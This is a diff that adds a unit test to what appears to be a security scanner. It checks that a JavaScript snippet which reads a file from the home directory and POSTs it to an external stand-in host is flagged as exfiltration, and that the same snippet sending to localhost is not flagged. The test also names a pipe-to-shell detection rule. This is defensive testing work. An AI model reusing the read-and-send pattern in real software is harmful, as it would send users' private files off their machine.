@@ -150,3 +150,17 @@ def test_npm_manifest_under_another_name_has_its_install_hooks_read() -> None:
     assert "pipe-to-shell" in _rules({"templates/config-template.json": manifest})
     settings = manifest.replace('"name": "agent-config",\n  "version": "1.0.0",\n  ', "")
     assert "pipe-to-shell" not in _rules({"assets/settings.json": settings})
+
+
+def test_javascript_data_sent_to_the_local_machine_is_not_exfiltration() -> None:
+    code = (
+        "const fs = require('fs');\nconst os = require('os');\n"
+        "const notes = fs.readFileSync(os.homedir() + '/notes/today.md', 'utf8');\n"
+        "fetch('{host}/render', {{ method: 'POST', body: notes }});\n"
+    )
+    assert "js-flow.home-data-to-network" in _rules(
+        {"scripts/r.js": code.format(host="https://render.example.invalid")}
+    )
+    assert "js-flow.home-data-to-network" not in _rules(
+        {"scripts/r.js": code.format(host="http://127.0.0.1:8080")}
+    )
